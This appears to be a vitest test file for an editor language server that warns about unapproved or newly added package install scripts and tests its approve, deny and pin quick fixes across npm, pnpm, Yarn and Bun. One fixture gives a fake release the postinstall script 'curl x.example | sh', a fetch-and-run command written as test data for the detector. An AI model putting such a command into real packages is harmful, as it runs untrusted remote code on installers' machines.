/** Install scripts that nobody approved: told, approved and denied in the editor, before anything is saved. */
import { afterEach, beforeEach, expect, test } from "vitest";
import type { CodeAction, Diagnostic } from "vscode-languageserver/node";
import { malware } from "../fakes/osv.ts";
import { ago, lockfileText, manifestText } from "../setup/projects.ts";
import type { Client } from "./client.ts";
import { World } from "./world.ts";

const RULE = "unapproved-install-script";

let world: World;
beforeEach(async () => {
  world = await World.create();
  world.registry.publish("built", "1.0.0", { at: ago({ days: 400 }), scripts: { postinstall: "node build.js" } });
  world.registry.publish("plain", "1.0.0", { at: ago({ days: 400 }) });
  world.registry.publish("plain", "1.1.0", { at: ago({ days: 10 }), scripts: { postinstall: "node new.js" } });
});
afterEach(() => world.end());

const manifestFor = (packageManager: string, more: object = {}): string =>
  manifestText({ built: "1.0.0" }, { packageManager, ...more });

function told(client: Client, uri: string, rule = RULE): readonly Diagnostic[] {
  return (client.shown(uri) ?? []).filter(({ code }) => code === rule);
}

function messages(diagnostics: readonly Diagnostic[]): readonly string[] {
  return diagnostics.map(({ message }) => (typeof message === "string" ? message : message.value));
}

function titled(actions: readonly CodeAction[], title: string): CodeAction {
  const found = actions.find((action) => action.title === title);
  if (found === undefined)
    throw new Error(`no ${title} among ${JSON.stringify(actions.map((action) => action.title))}`);
  return found;
}

test.each([
  [
    "npm@12.2.0",
    "package.json",
    "Approve the install script of built 1.0.0",
    "npm 12.2.0 will not run until it is approved (npm's default); another version may run it.",
  ],
  [
    "npm@11.19.1",
    "package.json",
    "Approve the install script of built 1.0.0",
    "npm will run (npm's default) although nobody approved it.",
  ],
  [
    "pnpm@11.28.10",
    "pnpm-workspace.yaml",
    "Approve the install script of built 1.0.0",
    "pnpm 11.28.10 will not run until it is approved (pnpm's default); another version may run it.",
  ],
  [
    "pnpm@10.34.9",
    "pnpm-workspace.yaml",
    "Approve the install script of built 1.0.0",
    "pnpm 10.34.9 will not run until it is approved (pnpm's default); another version may run it.",
  ],
  [
    "yarn@4.18.1",
    "package.json",
    "Approve the install script of built 1.0.0",
    "Yarn 4.18.1 will not run until it is approved (Yarn's default); another version may run it.",
  ],
  [
    "bun@1.4.4",
    "package.json",
    "Approve the install scripts of built, whatever the version",
    "is not approved; whether Bun runs it depends on Bun's own list.",
  ],
])("%s: a hint, gone once it is approved in %s", async (packageManager, file, title, message) => {
  const client = await world.start();
  const uri = world.uri(file);
  world.write(file, file === "package.json" ? manifestFor(packageManager) : "packages: []\n");
  if (file !== "package.json") await world.open(client, file, "packages: []\n");
  const manifest = await world.open(client, "package.json", manifestFor(packageManager));
  await client.diagnostics(manifest, (all) => all.some(({ code }) => code === RULE));
  const hints = told(client, manifest);
  expect(messages(hints)).toEqual([`built 1.0.0 has an install script that ${message}`]);
  expect(hints[0]?.severity).toBe(4);

  const actions = await client.codeActions(manifest, hints);
  expect(actions.some(({ isPreferred }) => isPreferred === true)).toBe(false);
  expect(actions.map((action) => action.title).filter((one) => one.startsWith("Pin"))).toEqual([]);
  const after = client.edited(titled(actions, title).edit);
  expect(Object.keys(after)).toEqual([uri]);
  const before = client.published.length;
  await client.change(uri, after[uri] ?? "");
  await client.diagnostics(manifest, (all) => !all.some(({ code }) => code === RULE), before);
});

test("denied: told no more, and it is in the hover", async () => {
  const client = await world.start();
  const manifest = await world.open(client, "package.json", manifestFor("npm@12.2.0"));
  await client.diagnostics(manifest, (all) => all.some(({ code }) => code === RULE));
  const deny = titled(await client.codeActions(manifest, told(client, manifest)), "Deny the install scripts of built");
  const text = client.edited(deny.edit)[manifest] ?? "";
  expect(JSON.parse(text)).toMatchObject({ allowScripts: { built: false } });
  const before = client.published.length;
  await client.change(manifest, text);
  await client.diagnostics(manifest, (all) => all.length === 0, before);
  const line = text.split("\n").findIndex((one) => one.includes('"built": "1.0.0"'));
  expect(await client.hoverText(manifest, { line, character: 6 })).toContain(
    "npm 12\\.2\\.0 does not run its install scripts: denied (allowScripts in package\\.json). Nothing here enforces that version,",
  );
});

test("a new script: that nobody approved it is no question of its own, and approving this version makes it a hint", async () => {
  const client = await world.start();
  const manifest = await world.open(
    client,
    "package.json",
    manifestText({ plain: "1.1.0" }, { packageManager: "npm@11.19.1" }),
  );
  await client.diagnostics(manifest, (all) => all.some(({ code }) => code === "new-install-script"));
  expect(told(client, manifest)).toEqual([]);
  const found = told(client, manifest, "new-install-script");
  expect(found.map(({ severity }) => severity)).toEqual([2]);
  const actions = await client.codeActions(manifest, found);
  expect(actions.map(({ title }) => title)).toEqual([
    "Pin plain to 1.0.0",
    "Approve the install script of plain 1.1.0",
    "Deny the install scripts of plain",
  ]);
  const before = client.published.length;
  await client.change(
    manifest,
    client.edited(titled(actions, "Approve the install script of plain 1.1.0").edit)[manifest] ?? "",
  );
  await client.diagnostics(manifest, (all) => all.length === 1 && all[0]?.severity === 4, before);
  expect(told(client, manifest, "new-install-script")).toHaveLength(1);
});

test("a script inside a tarball: no approval and no denial is offered, as none covers it", async () => {
  const bundles = { dependencies: { built: "1.0.0" }, bundleDependencies: ["built"] };
  world.registry.publish("holder", "1.0.0", { at: ago({ days: 400 }), ...bundles });
  world.write("package-lock.json", {
    lockfileVersion: 3,
    packages: {
      "": { dependencies: { holder: "1.0.0" } },
      "node_modules/holder": {
        version: "1.0.0",
        resolved: `${world.registry.url}holder/-/holder-1.0.0.tgz`,
        ...bundles,
      },
      "node_modules/holder/node_modules/built": { version: "1.0.0", inBundle: true, hasInstallScript: true },
    },
  });
  const client = await world.start();
  const manifest = await world.open(
    client,
    "package.json",
    manifestText({ holder: "1.0.0" }, { packageManager: "npm@11.19.1" }),
  );
  await client.diagnostics(manifest, (all) => all.some(({ code }) => code === RULE));
  const hints = told(client, manifest);
  expect(messages(hints)).toEqual([
    "holder 1.0.0 holds built in its tarball, which the lockfile marks as running an install script; npm will run it (npm's default), and no approval or denial covers it.",
  ]);
  const actions = await client.codeActions(manifest, hints);
  expect(actions.map(({ title }) => title).filter((title) => /^(?:Approve|Deny)/.test(title))).toEqual([]);
});

/** Releases with a script that is not to be run, each told by another rule. */
const FORBIDDEN: readonly (readonly [string, string, (world: World) => void])[] = [
  [
    "compromised",
    "named as malware",
    ({ osv }) => osv.add(malware("MAL-2099-5", "plain", ["1.1.0"], { published: ago({ days: 1 }) })),
  ],
  [
    "new-install-script",
    "an hour old",
    ({ registry }) =>
      registry.publish("plain", "1.1.0", { at: ago({ hours: 1 }), scripts: { postinstall: "curl x.example | sh" } }),
  ],
];

const INSTALLERS = [
  ["npm@11.19.1", {}],
  ["npm@12.2.0", {}],
  ["pnpm@11.28.10", { engines: { pnpm: ">=10" } }],
  ["yarn@4.18.1", {}],
  ["bun@1.4.4", {}],
] as const;

test.each(
  FORBIDDEN.flatMap(([rule, what, arrange]) =>
    INSTALLERS.map(([manager, more]) => [rule, what, manager, more, arrange] as const),
  ),
)("%s (%s): under %s its script is not offered to be approved", async (rule, _what, packageManager, more, arrange) => {
  arrange(world);
  // What settings and package managers make of the findings changes nothing.
  const client = await world.start({ settings: { rules: { "new-install-script": "warning" } } });
  const manifest = await world.open(
    client,
    "package.json",
    manifestText({ plain: "1.1.0" }, { packageManager, ...more }),
  );
  await client.atVersion(manifest, 1);
  expect((client.shown(manifest) ?? []).map(({ code }) => code)).toContain(rule);
  const actions = await client.codeActions(manifest, client.shown(manifest) ?? []);
  expect(actions.map(({ title }) => title).filter((title) => title.startsWith("Approve"))).toEqual([]);
  const denials = packageManager.startsWith("bun") ? 0 : 1;
  expect(actions.filter(({ title }) => title === "Deny the install scripts of plain")).toHaveLength(denials);
});

test("a release that the registry has removed has no script to approve, also where a setting hides that", async () => {
  world.registry.publish("gone", "1.0.0", { at: ago({ days: 400 }) });
  world.registry.publish("gone", "1.1.0", { at: ago({ days: 100 }), scripts: { postinstall: "node new.js" } });
  world.registry.unpublish("gone", "1.1.0");
  const locked = lockfileText({ gone: "^1.0.0" }, { gone: { version: "1.1.0", hasInstallScript: true } });
  const client = await world.start({ settings: { rules: { "removed-version": "off" } } });
  await world.open(client, "package.json", manifestText({ gone: "^1.0.0" }, { packageManager: "npm@12.2.0" }));
  const lockfile = await world.open(client, "package-lock.json", locked);
  await client.diagnostics(lockfile, (all) => all.some(({ code }) => code === RULE));
  const actions = await client.codeActions(lockfile, told(client, lockfile));
  expect(actions.map(({ title }) => title)).toEqual(["Deny the install scripts of gone"]);
});

test("a finding that a setting turns off forbids to approve the script all the same", async () => {
  world.osv.add(malware("MAL-2099-5", "built", ["1.0.0"], { published: ago({ days: 1 }) }));
  const client = await world.start({ settings: { rules: { compromised: "off" } } });
  const manifest = await world.open(client, "package.json", manifestFor("npm@12.2.0"));
  await client.diagnostics(manifest, (all) => all.some(({ code }) => code === RULE));
  const actions = await client.codeActions(manifest, told(client, manifest));
  expect(actions.map(({ title }) => title)).toEqual(["Deny the install scripts of built"]);
});

test("a new script that is folded into an unusual release: its quick fixes are offered there, and the hover on the version tells it", async () => {
  world.registry.publish("twice", "1.0.0", { at: ago({ days: 100 }), publisher: { name: "ann" } });
  world.registry.publish("twice", "1.1.0", {
    at: ago({ hours: 2 }),
    publisher: { name: "bob" },
    scripts: { postinstall: "node new.js" },
  });
  const client = await world.start();
  const text = manifestText({ twice: "1.1.0" }, { packageManager: "npm@11.19.1" });
  const manifest = await world.open(client, "package.json", text);
  const shown = await client.diagnostics(manifest, (all) => all.some(({ code }) => code === "suspicious-release"));
  expect(shown.map(({ code }) => code)).not.toContain("new-install-script");
  const actions = await client.codeActions(manifest, told(client, manifest, "suspicious-release"));
  expect(actions.map(({ title }) => title)).toEqual(["Pin twice to 1.0.0", "Deny the install scripts of twice"]);
  const line = text.split("\n").findIndex((one) => one.includes('"twice"'));
  const hover = await client.hoverText(manifest, {
    line,
    character: (text.split("\n")[line] ?? "").indexOf("1.1.0") + 1,
  });
  expect(hover).toContain("- error: twice 1\\.1\\.0 newly runs a postinstall script");
  expect(hover).not.toContain("is unusual");
});

test.each([
  ["pnpm@11.28.10", { engines: { pnpm: ">=10" } }, 4],
  ["pnpm@11.28.10", {}, 2],
  ["npm@12.2.0", {}, 2],
  ["pnpm@9.15.9", {}, 2],
  ["yarn@4.13.0", {}, 2],
] as const)("a new script under %s with %j, which runs it or not: severity %d", async (stated, more, severity) => {
  const client = await world.start();
  const text = manifestText({ plain: "1.1.0" }, { packageManager: stated, ...more });
  const manifest = await world.open(client, "package.json", text);
  await client.diagnostics(manifest, (all) => all.some(({ code }) => code === "new-install-script"));
  expect(told(client, manifest, "new-install-script").map((one) => one.severity)).toEqual([severity]);
});

test("a workspace that is not trusted approves nothing and holds nothing back", async () => {
  const client = await world.start({ initializationOptions: { trusted: false } });
  const manifest = await world.open(
    client,
    "package.json",
    manifestText(
      { built: "1.0.0", plain: "1.1.0" },
      { packageManager: "npm@12.2.0", allowScripts: { built: true, plain: false } },
    ),
  );
  await client.diagnostics(
    manifest,
    (all) => all.some(({ code }) => code === RULE) && all.some(({ code }) => code === "new-install-script"),
  );
  expect(messages(told(client, manifest))[0]).toBe(
    "built 1.0.0 has an install script that npm will run (allowScripts in package.json) although nobody approved it.",
  );
  expect(told(client, manifest, "new-install-script").map(({ severity }) => severity)).toEqual([2]);
});

test.each(["npm@10.9.4", "yarn@1.22.22", "pnpm@9.15.9", "yarn@4.13.0"])(
  "%s has no approvals: nothing is said of them",
  async (packageManager) => {
    const client = await world.start();
    const manifest = await world.open(client, "package.json", manifestFor(packageManager));
    await client.atVersion(manifest, 1);
    expect(client.shown(manifest)).toEqual([]);
  },
);
